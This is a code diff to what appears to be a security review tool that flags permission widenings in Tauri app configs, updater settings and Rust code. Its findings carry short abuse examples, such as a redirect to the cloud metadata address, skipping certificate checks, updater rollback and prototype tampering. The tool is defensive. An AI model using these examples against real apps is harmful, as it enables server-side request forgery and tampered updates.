+  "window-management",
+  "xr-spatial-tracking"
+];
+var openFeatures = (value) => {
+  const policies = policiesIn(value ?? "");
+  if (policies.size === 0) return "all";
+  return FEATURES2.flatMap((feature) => {
+    const allowed = policies.get(feature);
+    if (allowed === void 0 || allowed.includes("*")) return [{ text: feature, isWhole: true }];
+    return allowed.map((origin) => ({ text: `${feature}: ${origin}`, isWhole: false }));
+  });
+};
+function policiesIn(value) {
+  const policies = /* @__PURE__ */ new Map();
+  for (const member2 of value.split(",")) {
+    const [name = "", ...list] = member2.split("=");
+    if (list.length === 0) continue;
+    const origins = list.join("=").replace(/[()"]/g, " ").split(/\s+/);
+    policies.set(
+      name.trim(),
+      origins.filter((origin) => origin !== "")
+    );
+  }
+  return policies;
+}
+
+// src/readers/tauri-config/headers.ts
+var ELSEWHERE = "Pages of other origins";
+var HEADERS2 = [
+  {
+    name: "Permissions-Policy",
+    open: openFeatures,
+    subject: "The app's pages and sites in their frames",
+    action: "use devices and features",
+    example: '<iframe src="https://example.com" allow="camera; microphone"></iframe>'
+  },
+  {
+    name: "Cross-Origin-Opener-Policy",
+    open: guardedBy({
+      "same-origin": "",
+      "same-origin-allow-popups": "pages it opens",
+      "noopener-allow-popups": "pages it opens"
+    }),
+    subject: "Pages that the app opens or that open it",
+    action: "hold on to each other's window",
+    example: "window.opener.location = 'https://example.com'"
+  },
+  {
+    name: "Cross-Origin-Embedder-Policy",
+    open: guardedBy({ "require-corp": "", credentialless: "without credentials" }),
+    subject: "The app's pages",
+    action: "embed files of sites that didn't agree to it",
+    example: '<img src="https://example.com/private.png">'
+  },
+  {
+    name: "Cross-Origin-Resource-Policy",
+    open: guardedBy({ "same-origin": "", "same-site": "the same site" }),
+    subject: ELSEWHERE,
+    action: "embed the app's own files",
+    example: '<img src="tauri://localhost/private.png">'
+  },
+  {
+    name: "X-Content-Type-Options",
+    open: guardedBy({ nosniff: "" }),
+    subject: "The app's own files",
+    action: "run as scripts or styles, whatever type they are sent with",
+    example: '<script src="/notes.txt"></script>'
+  },
+  {
+    name: "Access-Control-Allow-Credentials",
+    open: whatIsTrue,
+    subject: ELSEWHERE,
+    action: "ask for the app's own pages with credentials",
+    example: "fetch('tauri://localhost/', { credentials: 'include' })"
+  },
+  ...["Access-Control-Allow-Headers", "Access-Control-Allow-Methods", "Access-Control-Expose-Headers"].map(
+    (name) => ({
+      name,
+      open: whatIsListed,
+      subject: ELSEWHERE,
+      action: `go further in requests for the app's own pages, as \`${name}\` says`,
+      example: "fetch('tauri://localhost/', { method: 'PUT', headers: { 'X-Any': '1' } })"
+    })
+  ),
+  {
+    name: "Timing-Allow-Origin",
+    open: whatIsListed,
+    subject: ELSEWHERE,
+    action: "measure how the app's own files load",
+    example: "performance.getEntriesByType('resource')"
+  },
+  {
+    name: "Service-Worker-Allowed",
+    open: whatIsBelow,
+    subject: "A service worker of the app",
+    action: "answer for pages outside of its own folder",
+    example: "navigator.serviceWorker.register('/a/sw.js', { scope: '/' })"
+  }
+];
+var headers = (project, platform2) => {
+  const config = project.config(platform2);
+  return HEADERS2.flatMap(({ name, open: open2, subject, action, example }) => {
+    const value = sentAs(project, name, pick(config, "app", "security", "headers", name));
+    const openness = open2(value);
+    const { at } = nearestTo(config, "app", "security", "headers", name);
+    const setting = value === void 0 ? `${name}: (not sent)` : `${name}: ${short(value)}`;
+    const all = { lever: "header-weakened", extent: name, subject, action, example, setting, at };
+    const whole = open2(void 0) === "all" ? { ...all, isWhole: true, comesWith: "app" } : { ...all, isWhole: true };
+    if (openness === "all") return [whole];
+    return openness.map(({ text, isWhole, inWords: inWords3 = code(text) }) => ({
+      ...whole,
+      isWhole,
+      extent: `${name}: ${text}`,
+      action: `${action} (${inWords3})`
+    }));
+  });
+};
+function sentAs(project, name, value) {
+  if (project.major === 1) return void 0;
+  const isMisspelt = name === "Permissions-Policy" && isBefore(project.locked("tauri-utils")?.version, "2.10.0");
+  return isMisspelt ? void 0 : textOf2(value)?.trim();
+}
+function textOf2(value) {
+  if (value?.kind === "array")
+    return stringsOf(value).map((item) => item.value).join(", ");
+  if (value?.kind !== "object") return asString(value);
+  return [...value.entries].map(([key, entry]) => `${key} ${asString(entry.value) ?? ""}`).join("; ");
+}
+
+// src/readers/tauri-config/minisign-key.ts
+function publicKey(text) {
+  const decoded3 = bytesOf(text.trim());
+  const lines2 = decoded3 === void 0 ? text : String.fromCharCode(...decoded3.slice(0, LONGEST_KEY));
+  const key = lines2.split("\n").map((line) => line.trim()).find((line) => line.startsWith("RW"));
+  return key ?? text.trim();
+}
+function keyNumber(key) {
+  const bytes = bytesOf(key);
+  if (bytes === void 0 || bytes.length < 10) return void 0;
+  const number = bytes.slice(2, 10).reverse();
+  return number.map((byte) => byte.toString(16).padStart(2, "0")).join("").toUpperCase();
+}
+var LONGEST_KEY = 4e3;
+function bytesOf(text) {
+  if (text.length > LONGEST_KEY || !/^[A-Za-z0-9+/]+=*$/.test(text)) return void 0;
+  try {
+    return Array.from(atob(text), (character) => character.charCodeAt(0));
+  } catch {
+    return void 0;
+  }
+}
+
+// src/readers/tauri-config/update-rollback.ts
+var CRATE = "tauri-plugin-updater";
+function rollback(project, settings) {
+  const signed = configKey(settings, "requireSignedVersion");
+  const older = configKey(settings, "allowDowngrades");
+  const common = {
+    lever: "rollback-allowed",
+    example: '{ "version": "99.0.0", "url": "https://example.com/app-1.0.0.tar.gz" }'
+  };
+  const found2 = [];
+  if (asBoolean(signed) !== true || !updaterKnows(project, "2.12.0")) {
+    const tooOld = asBoolean(signed) === true ? project.locked(CRATE) : void 0;
+    found2.push({
+      ...common,
+      extent: "unsigned-version",
+      subject: "Whoever answers for the update server",
+      action: "have an old release installed under a new version number",
+      setting: tooOld === void 0 ? "plugins.updater.requireSignedVersion: false" : `${CRATE} ${tooOld.version}`,
+      comesWith: "updater",
+      at: tooOld?.at ?? (signed ?? settings).at
+    });
+  }
+  if (asBoolean(older) === true && updaterKnows(project, "2.12.0")) {
+    found2.push({
+      ...OLDER,
+      ...common,
+      isWhole: true,
+      setting: "plugins.updater.allowDowngrades: true",
+      at: (older ?? settings).at
+    });
+  }
+  return [...found2, ...askedByPages(project, settings)];
+}
+var OLDER = {
+  extent: "older-version",
+  subject: "The updater",
+  action: "install a release older than the one that runs"
+};
+function askedByPages(project, settings) {
+  const locked = project.locked(CRATE);
+  if (locked === void 0 || locked.assumed) return [];
+  if (isBefore(locked.version, "2.8.0") || !isBefore(locked.version, "2.12.0")) return [];
+  return [
+    {
+      ...OLDER,
+      lever: "rollback-allowed",
+      extent: `${OLDER.extent}: asked by a page`,
+      subject: "A page with permissions of the updater",
+      action: "have the updater install a release older than the one that runs",
+      example: "check({ allowDowngrades: true })",
+      setting: `${CRATE} ${locked.version}`,
+      comesWith: "updater",
+      at: locked.at ?? settings.at
+    }
+  ];
+}
+function updaterKnows(project, since) {
+  const locked = project.locked(CRATE);
+  return locked === void 0 || locked.assumed || !isBefore(locked.version, since);
+}
+
+// src/readers/tauri-config/updater.ts
+function updaterOf(project, platform2) {
+  const config = project.config(platform2);
+  if (project.major === 2) return pick(config, "plugins", "updater");
+  const updater2 = pick(config, "tauri", "updater");
+  return asBoolean(member(updater2, "active")) === true ? updater2 : void 0;
+}
+var updater = (project, platform2) => {
+  const settings = updaterOf(project, platform2);
+  if (settings?.kind !== "object") return [];
+  const path = project.major === 1 ? "tauri.updater" : "plugins.updater";
+  return [
+    ...trustedKey(settings, path),
+    ...sources2(settings, path),
+    // The updater of Tauri 1 has no such settings.
+    ...project.major === 1 ? [] : [...unchecked(project, settings), ...rollback(project, settings)]
+  ];
+};
+function trustedKey(settings, path) {
+  const written3 = member(settings, "pubkey");
+  const text = asString(written3)?.trim() ?? "";
+  if (written3 === void 0 || text === "") return [];
+  const key = publicKey(text);
+  const number = keyNumber(key);
+  return [
+    {
+      lever: "key-trusted",
+      extent: key,
+      subject: number === void 0 ? "Whoever holds a new key" : `Whoever holds the key ${code(number)}`,
+      action: "sign what the app installs as its update",
+      example: `minisign -Vm update.tar.gz -P ${short(key)}`,
+      setting: `${path}.pubkey: ${JSON.stringify(short(text, 60))}`,
+      at: written3.at
+    }
+  ];
+}
+function sources2(settings, path) {
+  return stringsOf(member(settings, "endpoints")).map(({ value, at }) => {
+    const href = asUrl(value)?.href ?? value;
+    return {
+      lever: "source-added",
+      extent: href,
+      subject: `A server at ${code(value)}`,
+      action: "tell the app which update to install",
+      example: `GET ${short(href)}`,
+      setting: `${path}.endpoints: [${JSON.stringify(short(value))}]`,
+      at
+    };
+  });
+}
+var SWITCHES = [
+  [
+    "dangerousInsecureTransportProtocol",
+    "2.0.0",
+    "answer the updater over plain HTTP",
+    "GET http://example.com/latest.json"
+  ],
+  [
+    "dangerousAcceptInvalidCerts",
+    "2.10.0",
+    "answer the updater with any certificate",
+    "curl --insecure https://example.com/latest.json"
+  ],
+  [
+    "dangerousAcceptInvalidHostnames",
+    "2.10.0",
+    "answer the updater with the certificate of another host",
+    "curl --connect-to ::other.example https://example.com/latest.json"
+  ]
+];
+function unchecked(project, settings) {
+  return SWITCHES.flatMap(([key, since, action, example]) => {
+    const written3 = configKey(settings, key);
+    if (written3 === void 0 || asBoolean(written3) !== true || !updaterKnows(project, since)) return [];
+    return [
+      {
+        lever: "transport-unchecked",
+        extent: key,
+        subject: "Whoever is on the way between the app and its update server",
+        action,
+        example,
+        setting: `plugins.updater.${key}: true`,
+        at: written3.at
+      }
+    ];
+  });
+}
+
+// src/readers/tauri-config/plugin-settings.ts
+var FS = "tauri-plugin-fs";
+var HTTP = "tauri-plugin-http";
+function partsOf2(project, platform2) {
+  const parts = ["app"];
+  if (project.major === 1) return parts;
+  if (dependsOn(project, FS, platform2)) parts.push("fs plugin");
+  if (dependsOn(project, HTTP, platform2)) parts.push("http plugin");
+  if (updaterOf(project, platform2)?.kind === "object") parts.push("updater");
+  return parts;
+}
+var redirects = (project, platform2) => {
+  if (project.major === 1 || !dependsOn(project, HTTP, platform2)) return [];
+  const config = project.config(platform2);
+  const checks = asBoolean(pick(config, "plugins", "http", "scopeRedirects")) === true;
+  const locked = project.locked(HTTP);
+  if (checks && reads(locked, "2.7.0")) return [];
+  if (isAtLeast(locked, "3.0.0-alpha.2")) return [];
+  return [
+    {
+      lever: "redirects-unscoped",
+      extent: "",
+      subject: "A server that the app may call through the http plugin",
+      action: "send it on to any other URL",
+      example: "fetch('https://api.example.com/') → 302 http://169.254.169.254/",
+      ...settingOf2(config, checks, locked, "http", "scopeRedirects", "false"),
+      comesWith: "http plugin"
+    }
+  ];
+};
+var droppedFiles = (project, platform2) => {
+  if (project.major === 1 || !dependsOn(project, FS, platform2)) return [];
+  const config = project.config(platform2);
+  const keepsOut = asBoolean(pick(config, "plugins", "fs", "scopeDroppedPaths")) === false;
+  const locked = project.locked(FS);
+  if (keepsOut && reads(locked, "2.7.0")) return [];
+  return [
+    {
+      lever: "dropped-files-in-scope",
+      extent: "",
+      subject: "Every page with permissions of the fs plugin",
+      action: "reach files and whole folders that a person drops on any window",
+      example: "readDir('/home/user/dropped')",
+      ...settingOf2(config, keepsOut, locked, "fs", "scopeDroppedPaths", "true"),
+      comesWith: "fs plugin"
+    }
+  ];
+};
+function reads(locked, since) {
+  return locked === void 0 || locked.assumed || !isBefore(locked.version, since);
+}
+function isAtLeast(locked, version) {
+  return locked !== void 0 && !locked.assumed && !isBefore(locked.version, version);
+}
+function settingOf2(config, isSet, locked, plugin, key, byDefault) {
+  const { at } = nearestTo(config, "plugins", plugin, key);
+  if (isSet && locked !== void 0)
+    return { setting: `tauri-plugin-${plugin} ${locked.version}`, at: locked.at ?? at };
+  return { setting: `plugins.${plugin}.${key}: ${byDefault}`, at };
+}
+
+// src/readers/tauri-config/rust-code.ts
+function rustCode({ location: location2, files }) {
+  return [...files.values()].filter(({ path }) => isRustOfApp(path, location2.root)).flatMap(grantsIn);
+}
+var known = /* @__PURE__ */ new WeakMap();
+function grantsIn(file2) {
+  const before = known.get(file2);
+  if (before !== void 0) return before;
+  const grants = /uri_scheme_protocol|allow_(?:directory|file)/.test(file2.text) ? callsIn(file2) : [];
+  known.set(file2, grants);
+  return grants;
+}
+function callsIn(file2) {
+  const rust = rustSource(file2);
+  const source = { ...rust, constants: constantsIn(rust), placeOf: placesIn(file2) };
+  return [...schemes(file2, source), ...openedScopes(file2, source)];
+}
+function constantsIn({ code: code2, strings }) {
+  const constants3 = /* @__PURE__ */ new Map();
+  for (const found2 of code2.matchAll(/\b(?:const|static)\s+([A-Z0-9_]+)\s*:[^=;]{0,100}=\s*/g)) {
+    const text = strings.get(found2.index + found2[0].length)?.value;
+    if (text !== void 0) constants3.set(found2[1] ?? "", text);
+  }
+  return constants3;
+}
+var REGISTERS = /(?<!\bfn\s+)\bregister_(?:asynchronous_)?uri_scheme_protocol\s*(?:::\s*<[^()]{0,200}>\s*)?\(\s*/g;
+function schemes(file2, source) {
+  return Array.from(source.code.matchAll(REGISTERS), (call) => {
+    const { text, written: written3 } = argumentAt(file2, source, call.index + call[0].length);
+    const scheme = text === void 0 ? "a scheme that its code computes" : code(`${text}:`);
+    return {
+      lever: "local-scheme-added",
+      extent: text ?? written3,
+      subject: `Pages that the app itself serves under ${scheme}`,
+      action: "call what is granted to the app's own pages",
+      example: `location.href = '${short(text ?? "…", 80)}://localhost/'`,
+      setting: `${call[0].replace(/[\s(].*/s, "")}(${short(written3, 60)}, …)`,
+      at: source.placeOf(call.index, call.index + call[0].length)
+    };
+  });
+}
+var OPENS_OR_SCOPE = /\.\s*(allow_directory|allow_file)\s*\(\s*|\b(?:try_)?(fs_scope|asset_protocol_scope)\b|\b(?:tauri_plugin_fs|FsScope|scope\s*::\s*fs)\b/g;
+function openedScopes(file2, source) {
+  const found2 = [...source.code.matchAll(OPENS_OR_SCOPE)];
+  if (found2.every(([, method]) => method !== void 0)) return [];
+  let scope = found2.find((match) => match[2] !== void 0)?.[2] ?? "fs_scope";
+  return found2.flatMap((match) => {
+    const [, method, named2] = match;
+    scope = named2 ?? scope;
+    return method === void 0 ? [] : [openedScope(file2, source, match, scope)];
+  });
+}
+function openedScope(file2, source, call, scope) {
+  const [whole, method = ""] = call;
+  const argument = argumentAt(file2, source, call.index + whole.length);
+  const rest = source.code.slice(argument.end, argument.end + 40);
+  const isFlat = method === "allow_directory" && /^\s*,\s*false\b/.test(rest);
+  const isAsset = scope === "asset_protocol_scope";
+  const path = argument.text?.replaceAll(": ", ": ");
+  const extent = `${isAsset ? "asset" : "fs"} ${method}${path === void 0 ? "" : ` ${path}`}`;
+  const shown2 = `${short(argument.text ?? "…", 80)}${method === "allow_file" ? "" : isFlat ? "/a.txt" : "/a/b.txt"}`;
+  return {
+    lever: "scope-opened-by-code",
+    extent: isFlat ? `${extent}: its own files` : extent,
+    isWhole: !isFlat,
+    subject: isAsset ? "Any page of the app" : "Every page with permissions of the fs plugin",
+    action: actionOf(
+      method === "allow_file" ? "" : isFlat ? "the files in " : "everything in ",
+      argument.text
+    ),
+    example: isAsset ? `fetch(convertFileSrc('${shown2}'))` : `readTextFile('${shown2}')`,
+    setting: `${scope}().${method}(${short(argument.written, 60)})`,
+    at: source.placeOf(call.index, call.index + whole.length)
+  };
+}
+function actionOf(what2, path) {
+  return `reach ${what2}${path === void 0 ? "a path that the app's code computes" : code(path)}`;
+}
+var LONGEST_ARGUMENT = 400;
+function argumentAt(file2, { code: code2, strings, constants: constants3 }, from) {
+  const end = from + lengthOfArgument(code2.slice(from, from + LONGEST_ARGUMENT));
+  const written3 = file2.text.slice(from, end).replace(/\s+/g, " ").trim();
+  const start = from + (/^[&\s]*/.exec(code2.slice(from, end))?.[0].length ?? 0);
+  const constant = /^&?([A-Z][A-Z0-9_]*)$/.exec(written3)?.[1] ?? "";
+  return { written: written3, text: strings.get(start)?.value ?? constants3.get(constant), end };
+}
+function lengthOfArgument(code2) {
+  let depth = 0;
+  for (let i = 0; i < code2.length; i += 1) {
+    const character = code2[i] ?? "";
+    if (depth === 0 && (character === "," || character === ")")) return i;
+    if ("([{".includes(character)) depth += 1;
+    else if (")]}".includes(character)) depth -= 1;
+  }
+  return code2.length;
+}
+
+// src/readers/tauri-config/security.ts
+var prototypeGuard = (project, platform2) => {
+  const config = project.config(platform2);
+  const section2 = appSection(project);
+  const security = member(member(config, section2), "security");
+  if (asBoolean(configKey(security, "freezePrototype")) === true) return [];
+  return [
+    {
+      lever: "prototype-unfrozen",
+      extent: "",
+      subject: "Any script in the app's pages",
+      action: "change what all objects inherit, through `Object.prototype`",
+      example: "Object.prototype.toJSON = () => …",
+      setting: `${section2}.security.freezePrototype: false`,
+      comesWith: "app",
+      at: nearestTo(config, section2, "security", "freezePrototype").at
+    }
+  ];
+};
+var isolationGuard = (project, platform2) => {
+  const config = project.config(platform2);
+  const path = project.major === 1 ? ["tauri", "pattern", "use"] : ["app", "security", "pattern", "use"];
+  if (asString(pick(config, ...path)) === "isolation") return [];
+  return [
+    {
+      lever: "isolation-removed",
+      extent: "",
+      subject: "Any script in the app's pages",
+      action: "send messages to Rust that the isolation hook doesn't see",
+      example: "window.__TAURI_INTERNALS__.invoke('…')",
+      setting: `${path.join(".")}: "brownfield"`,
+      comesWith: "app",
+      at: nearestTo(config, ...path).at
+    }
+  ];
+};
+
 // src/readers/tauri-config/reader.ts
-var LEVER_READERS = [globalApi];
+var LEVER_READERS = [
+  browserSwitches,
+  cargoFeatures,
+  chromiumLibrary,
+  crates,
+  deepLinks,
+  devtools,
+  droppedFiles,
+  globalApi,
+  headers,
+  isolationGuard,
+  prototypeGuard,
+  redirects,
+  remoteFrontend,
+  sidecars,
+  updater,
+  windows
+];
 var tauriConfig = {
   id: "tauri-config",
   layered: true,
-  wants: () => false,
-  read: (project) => ({ grants: onAllPlatforms(project), gaps: [] })
+  wants: (path, app) => isEntryPoint(path, app.root),
+  follows: (project, isChanged) => (path) => isRustOfApp(path, project.location.root) && isChanged(path),
+  read: (project) => ({
+    grants: [
+      ...partsOnPlatforms(project),
+      ...leversOnPlatforms(project),
+      ...rustCode(project).map((granted) => leverOf(granted, EVERY_PLATFORM))
+    ],
+    gaps: []
+  })
 };
-function onAllPlatforms(project) {
+function leversOnPlatforms(project) {
   const found2 = /* @__PURE__ */ new Map();
   for (const platform2 of PLATFORMS) {
-    for (const granted of LEVER_READERS.flatMap((read2) => read2(project, platform2))) {
+    for (const granted of LEVER_READERS.flatMap((read3) => read3(project, platform2))) {
       const name = JSON.stringify(granted);
       const [, platforms] = found2.get(name) ?? [granted, NO_PLATFORM];
       found2.set(name, [granted, platforms | platformSet(platform2)]);
     }
   }
-  return [...found2.values()].map(([granted, platforms]) => ({ domain: "config", ...granted, platforms }));
+  return [...found2.values()].map(([granted, platforms]) => leverOf(granted, platforms));
+}
+function leverOf(granted, platforms) {
+  return { domain: "config", kind: "lever", isWhole: false, comesWith: null, ...granted, platforms };
+}
+function partsOnPlatforms(project) {
+  const found2 = /* @__PURE__ */ new Map();
+  for (const platform2 of PLATFORMS) {
+    for (const part of partsOf2(project, platform2))
+      found2.set(part, (found2.get(part) ?? NO_PLATFORM) | platformSet(platform2));
+  }
+  return [...found2].map(([part, platforms]) => ({ domain: "config", kind: "part", part, platforms }));
 }
 
 // src/readers/index.ts
@@ -51481,7 +53158,7 @@ function isPlatformOverlay(path) {
 }
 function extraBuilds(app, files) {
   const started = configuredBuilds(app, files);
-  const known = new Set(started.map(({ key }) => key));
+  const known2 = new Set(started.map(({ key }) => key));
   const beside = [...files.values()].filter(
     ({ path }) => folderOf(path) === app.root && path !== app.config && !isPlatformOverlay(path) && !OTHER_CONFIGS.has(baseName(path)) && EXTRA_LAYER.test(baseName(path))
   );
@@ -51489,14 +53166,14 @@ function extraBuilds(app, files) {
     ...started,
     ...beside.flatMap((file2) => {
       const key = baseName(file2.path);
-      return known.has(key) ? [] : [{ key, name: key, layers: [{ file: file2, inline: false }] }];
+      return known2.has(key) ? [] : [{ key, name: key, layers: [{ file: file2, inline: false }] }];
     })
   ];
 }
 var OTHER_CONFIGS = /* @__PURE__ */ new Set(["tauri.conf.json", "tauri.conf.json5", "Tauri.toml"]);
 function configLayers(app, files, json5, extra) {
   const gaps2 = [];
-  const read2 = (file2, inline = false) => {
+  const read3 = (file2, inline = false) => {
     if (file2 === void 0) return void 0;
     const parsed4 = inline ? parseJson(file2, "json5") : parseFile(file2, { json5 });
     if (parsed4.ok) return parsed4.value;
@@ -51509,12 +53186,12 @@ function configLayers(app, files, json5, extra) {
     );
     return void 0;
   };
-  const base = read2(files.get(app.config)) ?? emptyConfig(app.config);
-  const last2 = extra.map(({ file: file2, inline }) => read2(file2, inline));
+  const base = read3(files.get(app.config)) ?? emptyConfig(app.config);
+  const last2 = extra.map(({ file: file2, inline }) => read3(file2, inline));
   const of = /* @__PURE__ */ new Map();
   for (const platform2 of PLATFORMS) {
     const overlay = overlayNames(platform2).map((name) => files.get(inFolder(app.root, name))).find((file2) => file2 !== void 0);
-    const patches = [read2(overlay), ...last2].filter((patch) => patch !== void 0);
+    const patches = [read3(overlay), ...last2].filter((patch) => patch !== void 0);
     of.set(platform2, patches.reduce(mergePatch, base));
   }
   return { of, gaps: gaps2 };
@@ -51582,9 +53259,9 @@ async function readSide(tree, wanted, shared) {
   const missing = [];
   let bytes = 0;
   for (const entry of wanted) {
-    const known = shared.get(keyOf3(entry));
+    const known2 = shared.get(keyOf4(entry));
     bytes += entry.size;
-    if (known !== void 0) files.set(entry.path, known);
+    if (known2 !== void 0) files.set(entry.path, known2);
     else if (entry.size > TREE_LIMITS.fileBytes || bytes > TREE_LIMITS.totalBytes) {
       gaps2.push(
         gapIn(
@@ -51603,13 +53280,13 @@ async function readSide(tree, wanted, shared) {
       gaps2.push(gapIn(entry.path, "unreadable", unreadable(entry.path, bytesOfFile !== void 0)));
     else {
       const file2 = { path: entry.path, id: entry.id, text };
-      shared.set(keyOf3(entry), file2);
+      shared.set(keyOf4(entry), file2);
       files.set(entry.path, file2);
     }
   }
   return { files, gaps: gaps2 };
 }
-function keyOf3({ path, id }) {
+function keyOf4({ path, id }) {
   return `${id}\0${path}`;
 }
 function unreadable(path, present) {
@@ -51700,8 +53377,8 @@ function namedBy(app, wanted, files, entries, isChanged) {
     projectFollows(app, project.files),
     ...readers.flatMap((reader) => reader.follows?.(project, isChanged) ?? [])
   ];
-  const known = new Set(wanted.map(({ path }) => path));
-  return entries.filter(({ path }) => !known.has(path) && names2.some((isNamed) => isNamed(path)));
+  const known2 = new Set(wanted.map(({ path }) => path));
+  return entries.filter(({ path }) => !known2.has(path) && names2.some((isNamed) => isNamed(path)));
 }
 function filesOf(wanted, files) {
   return new Map(
@@ -51804,10 +53481,10 @@ function pairApps(base, head, identityOf5) {
       if (left.size === 0) break;
       const mine = keysOf(identityOf5("head", app));
       const matches2 = (side) => (other) => keysOf(identityOf5(side, other)).some((key) => mine.includes(key));
-      const candidates = [...left].filter(matches2("base"));
+      const candidates2 = [...left].filter(matches2("base"));
       const rivals = [...right].filter(matches2("head"));
-      const [only] = candidates;
-      if (only !== void 0 && candidates.length === 1 && rivals.length === 1) pairUp(only, app);
+      const [only] = candidates2;
+      if (only !== void 0 && candidates2.length === 1 && rivals.length === 1) pairUp(only, app);
     }
   }
   const [gone, come] = [[...left], [...right]];
@@ -51830,7 +53507,7 @@ function applyPolicy(found2, { rules: rules2 }) {
     if (setting === "off") off.set(finding.rule, (off.get(finding.rule) ?? 0) + 1);
     else findings.push(setting === void 0 ? finding : { ...finding, severity: setting });
   }
-  const turnedOff = [...off].map(([rule29, count]) => ({ rule: rule29, findings: count }));
+  const turnedOff = [...off].map(([rule54, count]) => ({ rule: rule54, findings: count }));
   return { findings, turnedOff: turnedOff.sort((a, b) => a.rule < b.rule ? -1 : 1) };
 }
 function verdictOf(findings, gaps2, { failOn }) {
@@ -51838,38 +53515,117 @@ function verdictOf(findings, gaps2, { failOn }) {
   return gaps2.some(({ blocking }) => blocking) ? "incomplete" : "pass";
 }
 
+// src/compare/config/extents.ts
+var WITHIN = ": ";
+var MOST_WHOLES = 4;
+var Extents = class {
+  #of = /* @__PURE__ */ new Map();
+  #wholes = /* @__PURE__ */ new Map();
+  constructor(grants) {
+    for (const grant of grants) {
+      add(this.#of, grant);
+      if (grant.isWhole) add(this.#wholes, grant);
+    }
+  }
+  /** The platforms on which it, or a whole that it is part of, is let happen. */
+  platformsOf(asked) {
+    const itself = this.#of.get(asked.lever)?.get(asked.extent) ?? NO_PLATFORM;
+    return itself | this.platformsOfWholes(asked);
+  }
+  /** The platforms on which something that it is only a part of is let happen. */
+  platformsOfWholes({ lever, extent }) {
+    const wholes = this.#wholes.get(lever);
+    if (wholes === void 0) return NO_PLATFORM;
+    return wholesOf(extent).reduce((set2, whole) => set2 | (wholes.get(whole) ?? NO_PLATFORM), NO_PLATFORM);
+  }
+  extentsByLever() {
+    return new Map([...this.#of].map(([lever, known2]) => [lever, [...known2.keys()]]));
+  }
+};
+function add(to, { lever, extent, platforms }) {
+  const known2 = to.get(lever) ?? /* @__PURE__ */ new Map();
+  to.set(lever, known2.set(extent, (known2.get(extent) ?? NO_PLATFORM) | platforms));
+}
+function wholesOf(extent) {
+  if (extent === "") return [];
+  const wholes = [""];
+  for (let end = extent.indexOf(WITHIN); end >= 0 && wholes.length < MOST_WHOLES; ) {
+    wholes.push(extent.slice(0, end));
+    end = extent.indexOf(WITHIN, end + WITHIN.length);
+  }
+  return wholes;
+}
+var indexes = /* @__PURE__ */ new WeakMap();
+function candidates(grants, lever, extent) {
+  const index = indexes.get(grants) ?? indexOf2(grants);
+  indexes.set(grants, index);
+  const exact = index.exact.get(JSON.stringify([lever, extent])) ?? [];
+  const wholes = index.wholes.get(lever) ?? [];
+  return [
+    ...exact,
+    ...wholes.filter((whole) => whole.extent === "" || extent.startsWith(`${whole.extent}${WITHIN}`))
+  ];
+}
+function indexOf2(grants) {
+  const levers = leversIn(grants);
+  return {
+    exact: Map.groupBy(levers, ({ lever, extent }) => JSON.stringify([lever, extent])),
+    wholes: Map.groupBy(
+      levers.filter(({ isWhole }) => isWhole),
+      ({ lever }) => lever
+    )
+  };
+}
+function partsIn(grants) {
+  const parts = /* @__PURE__ */ new Map();
+  for (const grant of grants) {
+    if (grant.kind === "part")
+      parts.set(grant.part, (parts.get(grant.part) ?? NO_PLATFORM) | grant.platforms);
+  }
+  return parts;
+}
+function leversIn(grants) {
+  return grants.filter((grant) => grant.kind === "lever");
+}
+
 // src/compare/config/comparison.ts
 var configComparison = {
   domain: "config",
   compare(base, head) {
-    const widened = gained(base, head).map((grant) => changeOf(grant, "widened", base.length === 0));
-    const narrowed = gained(head, base).map((grant) => changeOf(grant, "narrowed", false));
-    return { changes: [...widened, ...narrowed], gaps: [] };
+    return {
+      changes: [...gained(base, head, "widened"), ...gained(head, base, "narrowed")],
+      gaps: []
+    };
   },
   allows(grants, { witness, platforms }) {
     const platform2 = witness.platform === "any" ? platformsOf(platforms)[0] : witness.platform;
-    return grants.some(
-      (grant) => grant.lever === witness.lever && grant.extent === witness.extent && hasPlatform(grant.platforms, platform2 ?? PLATFORMS[0])
+    return candidates(grants, witness.lever, witness.extent).some(
+      (grant) => hasPlatform(grant.platforms, platform2 ?? PLATFORMS[0])
     );
   }
 };
-function gained(before, after) {
-  const had = /* @__PURE__ */ new Map();
-  for (const grant of before)
-    had.set(nameOf2(grant), (had.get(nameOf2(grant)) ?? NO_PLATFORM) | grant.platforms);
+function gained(before, after, direction) {
+  const had = new Extents(leversIn(before));
+  const parts = partsIn(before);
   const found2 = /* @__PURE__ */ new Map();
-  for (const grant of after) {
-    const name = nameOf2(grant);
-    const known = found2.get(name);
-    const platforms = grant.platforms & ~(had.get(name) ?? NO_PLATFORM) | (known?.platforms ?? NO_PLATFORM);
-    if (platforms !== NO_PLATFORM) found2.set(name, { ...known ?? grant, platforms });
+  for (const grant of leversIn(after)) {
+    const name = JSON.stringify([grant.lever, grant.extent]);
+    const known3 = found2.get(name);
+    const possible = grant.comesWith === null ? EVERY_PLATFORM : parts.get(grant.comesWith) ?? NO_PLATFORM;
+    const fresh = grant.platforms & ~had.platformsOf(grant) & possible;
+    const platforms = fresh | (known3?.platforms ?? NO_PLATFORM);
+    if (platforms !== NO_PLATFORM) found2.set(name, { ...known3 ?? grant, platforms });
   }
-  return [...found2.values()];
+  const wholes = new Extents(found2.values());
+  const known2 = had.extentsByLever();
+  return [...found2.values()].flatMap((grant) => {
+    const platforms = grant.platforms & ~wholes.platformsOfWholes(grant);
+    if (platforms === NO_PLATFORM) return [];
+    const context3 = { before: known2.get(grant.lever) ?? [], appIsNew: before.length === 0 };
+    return [{ ...changeOf({ ...grant, platforms }, direction), ...context3 }];
+  });
 }
-function nameOf2({ lever, extent }) {
-  return JSON.stringify([lever, extent]);
-}
-function changeOf({ lever, extent, platforms, subject, action, example, setting, at }, direction, appIsNew) {
+function changeOf({ lever, extent, platforms, subject, action, example, setting, at }, direction) {
   const where = inWords(platforms);
   const on2 = where === "" ? "" : ` ${where}`;
   const [platform2] = platformsOf(platforms);
@@ -51893,8 +53649,7 @@ function changeOf({ lever, extent, platforms, subject, action, example, setting,
     identity: JSON.stringify([lever, extent, platformsOf(platforms)]),
     lever,
     extent,
-    platforms,
-    appIsNew
+    platforms
   };
 }
 
@@ -51953,10 +53708,10 @@ function chainOf(act) {
 // src/compare/csp/grouping.ts
 var MOST_HOSTS = 4;
 function group(all) {
-  const groups3 = Object.values(Object.groupBy(all, keyOf4)).map((members2) => groupOf(members2 ?? []));
+  const groups3 = Object.values(Object.groupBy(all, keyOf5)).map((members2) => groupOf(members2 ?? []));
   return listManyHosts(groups3.filter((each) => !prefetchOnly(each, groups3))).sort(byClass);
